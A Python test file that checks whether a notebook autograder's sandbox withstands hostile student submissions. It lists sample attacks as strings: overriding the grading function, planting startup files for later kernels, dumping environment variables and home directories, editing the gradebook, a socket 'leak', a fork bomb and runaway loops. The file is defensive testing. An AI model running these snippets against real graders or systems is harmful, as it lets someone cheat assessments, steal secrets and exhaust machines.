"""Hostile submissions: a student's notebook changes nothing but its own answers.

One class of lesson 1 (5 points) is released, submitted, collected and graded
once, by the course's own steps (``Teacher``, two jobs). Every attacker answers
every exercise wrong and adds one attack to its first answer cell; each test
then checks that the attack earned nothing, reached nothing and stopped nothing:

- deciding its own points: redefining ``check``, patching autodiff or NumPy,
  removing nbgrader's environment variable, a float whose ``__eq__`` lies,
  printing "Correct!", planting code for the next student's kernel;
- reaching what is not its own: the teacher edition, the answer key, the
  gradebook, another student's submission, the exchange, the teacher's
  environment (a planted token), the network, its output folder's links;
- outliving or stopping the grading: a detached process, a loop that ignores
  interrupts, a dead kernel, a 20 GB allocation, a fork bomb, a 50 MB print, a
  notebook that is not JSON.
"""

import json
import os
import socket
import threading
import time
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[2]
LESSON = "lesson01"
NOTEBOOK = "01_gradients_and_tapes"
TOKEN_NAME, TOKEN = "TAPESCHOOL_TEST_SECRET_TOKEN", "tok-3f9a1c77e2"
TIME_LIMIT = 45        # seconds a submission may run here (the lesson takes about 6)

# Each attack goes at the end of the first exercise's answer cell; its answers stay wrong.
ATTACKS = {
    "redefines_check": """
def check(*args, **kwargs):
    print("Correct! The answer is: whatever")
import widgets.exercises, tapeschool.answers
widgets.exercises.check = tapeschool.answers.check = check
""",
    "patches_the_engine": """
import autodiff as ad, numpy as np
ad.GradientTape.gradient = lambda self, target, sources, *a, **k: -7.25
np.allclose = lambda *a, **k: True
import builtins
builtins.round = lambda *a, **k: 13.0
""",
    "unsets_nbgrader": """
import os
os.environ.pop("NBGRADER_EXECUTION", None)
os.environ["NBGRADER_EXECUTION"] = ""
""",
    "lies_in_eq": """
class Yes(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __float__(self): return -7.25
my_prediction = Yes(-7.25)
""",
    "prints_correct": """
print("Correct! The answer is: ad.Tensor(13.0, shape=(), dtype=float32)")
""",
    "plants_for_the_next": """
import os, sys
payload = "import tapeschool.answers as a\\na.verdict = lambda *x, **k: (True, 'Correct!')\\n"
for folder in list(sys.path) + ["/tmp", os.path.expanduser("~/.ipython/profile_default/startup")]:
    try:
        os.makedirs(folder, exist_ok=True)
        for name in ("sitecustomize.py", "usercustomize.py", "00-plant.py"):
            open(os.path.join(folder or ".", name), "w").write(payload)
        print("planted in", folder)
    except OSError:
        pass
""",
    "snoops": """
import glob, os, sqlite3
print("ENV", dict(os.environ))
for pattern in ["{course}/**", "{repo}/notebooks/*.ipynb", "{exchange}/**", "/root/**", "/home/**"]:
    for path in glob.glob(pattern, recursive=True)[:50]:
        try:
            print("READ", path, open(path, errors="replace").read()[:3000])
        except OSError as error:
            print("NO", path, error)
try:
    db = sqlite3.connect("{course}/gradebook.db")
    db.execute("update grade set auto_score = 0")
    db.commit()
    print("GRADEBOOK", "CHANGED")
except Exception as error:
    print("NO", "GRADEBOOK:", error)
""",
    "calls_home": """
import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"leak")
    print("CONNECTED")
except OSError as error:
    print("NO NETWORK", error)
""",
    "links_the_key": """
import os
os.makedirs("/grading/out", exist_ok=True)
for name, target in [("answers.jsonl", "{course}/grading/keys/lesson01/01_gradients_and_tapes.json"),
                     ("executed.ipynb", "{course}/source/lesson01/01_gradients_and_tapes.ipynb")]:
    try:
        os.remove("/grading/out/" + name)
    except OSError:
        pass
    os.symlink(target, "/grading/out/" + name)
""",
    "detaches": """
import os, subprocess
subprocess.Popen(["/bin/sh", "-c", "sleep 20; echo late > /grading/out/late"],
                 start_new_session=True, stdin=subprocess.DEVNULL,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:
    os.setsid()
    import time; time.sleep(30); os._exit(0)
""",
    "loops_forever": """
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass
""",
    "allocates_20_gb": """
hog = bytearray(20 * 2**30)
""",
    "forks_a_bomb": """
import os, time
children = 0
try:
    for _ in range(2000):
        if os.fork() == 0:
            time.sleep(60); os._exit(0)
        children += 1
except OSError as error:
    print("fork stopped after", children, error)
""",
    "prints_50_mb": """
print("x" * (50 * 2**20))
""",
}


def _honest(right):
    return {"right": right, "attack": ""}


STUDENTS = {"ada": _honest({1, 2, 3, 4, 5, 6}),     # every answer right: 5/5
            "ben": _honest({2, 4}),                 # exercises 1 and 3 right: 2/5
            "zed": _honest(set()),                  # graded after the planter: still 0
            **{name: {"right": set(), "attack": code} for name, code in ATTACKS.items()},
            # right answers, then its kernel kills itself: points or "not graded", never 0
            "kills_its_kernel": {"right": {1, 2, 3, 4, 5, 6},
                                 "attack": "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)",
                                 "cell": "lesson01-exercise-5-answer"}}


@pytest.fixture(scope="module")
def graded_class(tmp_path_factory, sandbox_machine):
    from tapeschool.course.layout import init_course
    from tapeschool.course.student import Student, answers_for, fill_in
    from tapeschool.course.teacher import Teacher

    tmp = tmp_path_factory.mktemp("hostile")
    tmp.chmod(0o755)
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    heard = []
    threading.Thread(target=lambda: heard.append(listener.accept()), daemon=True).start()
    course = init_course(tmp / "course", exchange=tmp / "exchange", assignments=["01"],
                         one_os_user=True)
    out = _Lines()
    teacher = Teacher(course, out=out, time_limit=TIME_LIMIT)
    teacher.release("01")
    fill = {"course": course.root, "repo": ROOT, "exchange": tmp / "exchange",
            "port": listener.getsockname()[1]}
    for name, plan in STUDENTS.items():
        student = Student(name, tmp / "home" / name, course.course_id, course.exchange)
        notebook = student.fetch("01") / f"{NOTEBOOK}.ipynb"
        answers = answers_for("01", plan["right"])
        cell = plan.get("cell", "lesson01-exercise-1-answer")
        answers[cell] += "\n" + plan["attack"].format(**{k: str(v) for k, v in fill.items()})
        fill_in(notebook, answers)
        student.submit("01")
    broken = Student("sends_garbage", tmp / "home" / "sends_garbage", course.course_id,
                     course.exchange)
    (broken.fetch("01") / f"{NOTEBOOK}.ipynb").write_text('{"cells": [ this is not json')
    broken.submit("01")
    teacher.collect("01")
    os.environ[TOKEN_NAME] = TOKEN
    try:
        started = time.monotonic()
        graded = teacher.autograde("01", jobs=2)
        seconds = time.monotonic() - started
        teacher.generate_feedback("01")
    finally:
        del os.environ[TOKEN_NAME]
    yield {"course": course, "teacher": teacher, "graded": graded, "seconds": seconds,
           "not_graded": dict(teacher.not_graded), "out": out.text(), "heard": heard,
           "results": teacher.results("01"), "tmp": tmp}
    listener.close()


class _Lines:
    def __init__(self):
        self.lines = []

    def write(self, text):
        self.lines.append(text)

    def flush(self):
        pass

    def text(self):
        return "".join(self.lines)


def _feedback(graded_class, student):
    path = graded_class["course"].root / "feedback" / student / LESSON / f"{NOTEBOOK}.html"
    return path.read_text(encoding="utf-8")


def test_honest_students_get_what_their_answers_earn(graded_class):
    assert graded_class["graded"]["ada"] == (5.0, 5.0)
    assert graded_class["graded"]["ben"] == (2.0, 5.0)
    assert graded_class["graded"]["zed"] == (0.0, 5.0)
    assert "Correct! The answer is: ad.Tensor(13.0" in _feedback(graded_class, "ada")


@pytest.mark.parametrize("attacker", ["redefines_check", "patches_the_engine", "unsets_nbgrader",
                                      "lies_in_eq", "prints_correct", "plants_for_the_next",
                                      "snoops", "calls_home"])
def test_an_attack_on_the_verdict_scores_nothing(graded_class, attacker):
    assert graded_class["graded"][attacker] == (0.0, 5.0)


def test_links_in_the_output_folder_read_as_nothing(graded_class):
    # the runner's own files became links to the key and the teacher edition: nothing
    # was read through them (no points, no solution in the page); the run is "not graded"
    # when the runner could not write its report through the link
    result = graded_class["results"]["links_the_key"]
    assert result == (0.0, 5.0) or result.startswith("not graded"), result
    page = _feedback(graded_class, "links_the_key")
    assert "BEGIN SOLUTION" not in page and "answer_text" not in page


def test_a_plant_reaches_no_later_kernel_and_the_teacher_edition_still_scores_full(graded_class):
    assert graded_class["graded"]["zed"] == (0.0, 5.0)
    assert "planted in" not in _feedback(graded_class, "zed")


def test_nothing_of_the_course_or_the_teacher_reaches_a_feedback_page(graded_class):
    page = _feedback(graded_class, "snoops")
    assert "&#x27;HOME&#x27;: &#x27;/grading&#x27;" in page or "'HOME': '/grading'" in page
    for secret in (TOKEN, TOKEN_NAME, "BEGIN SOLUTION", "my_prediction = 13.0", "READ /",
                   "inbound", "01_gradients_and_tapes.json", "answer_text"):
        assert secret not in page, secret
    assert "NO GRADEBOOK:" in page and "GRADEBOOK CHANGED" not in page
    assert graded_class["results"]["ada"] == (5.0, 5.0)      # nobody's score was changed


def test_a_sandbox_has_no_network(graded_class):
    assert "NO NETWORK" in _feedback(graded_class, "calls_home")
    assert graded_class["heard"] == []


def test_no_process_of_a_submission_outlives_its_grading(graded_class):
    from tapeschool.course.sandbox import FIRST_UID

    time.sleep(2)
    left = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                uid = entry.stat().st_uid
            except OSError:
                continue
            if FIRST_UID <= uid < FIRST_UID + 100:
                left.append((entry.name, (entry / "cmdline").read_bytes()[:80]))
    assert left == []


def test_a_submission_that_cannot_be_graded_is_not_a_zero_and_the_class_finishes(graded_class):
    not_graded = graded_class["not_graded"]
    assert set(not_graded) >= {"loops_forever", "sends_garbage"}
    assert not_graded["loops_forever"].startswith("timeout")
    assert "malformed" in not_graded["sends_garbage"]
    for student in not_graded:
        assert graded_class["results"][student].startswith("not graded: "), student
        assert "Not graded" in _feedback(graded_class, student), student
    out = graded_class["out"]
    assert "autograde" in out and "not graded: timeout" in out
    assert f"graded {len(graded_class['graded'])} of {len(STUDENTS) + 1}" in out
    total = len(graded_class["graded"]) + len(not_graded)
    assert total == len(STUDENTS) + 1                 # everyone after them was graded too


def test_a_student_whose_kernel_dies_after_right_answers_is_never_a_silent_zero(graded_class):
    result = graded_class["results"]["kills_its_kernel"]
    assert result == (5.0, 5.0) or (isinstance(result, str) and "kernel died" in result)


def test_limits_hold_memory_processes_and_output(graded_class):
    results = graded_class["results"]
    for attacker in ("allocates_20_gb", "forks_a_bomb", "prints_50_mb", "detaches"):
        assert results[attacker] in ((0.0, 5.0),) or results[attacker].startswith("not graded"), \
            attacker
    page = _feedback(graded_class, "prints_50_mb")
    assert len(page.encode()) < 3 * 2**20 and "output cut here" in page
    assert "fork stopped after" in _feedback(graded_class, "forks_a_bomb")


def test_grading_again_grades_only_what_needs_it(graded_class):
    from tapeschool.course.teacher import Teacher

    teacher = Teacher(graded_class["course"], out=_Lines(), time_limit=5)
    again = teacher.autograde("01")
    # the graded ones are left alone; the not-graded ones are tried again (and fail again)
    assert again == {} and set(teacher.not_graded) == set(graded_class["not_graded"])
    assert teacher.results("01")["ada"] == (5.0, 5.0)


def test_the_status_records_say_why_and_hold_no_key(graded_class):
    folder = graded_class["course"].root / "grading" / "status" / LESSON
    record = json.loads((folder / "loops_forever.json").read_text())
    assert record["notebooks"][NOTEBOOK]["graded"] is False
    assert "answer_text" not in (folder / "ada.json").read_text()
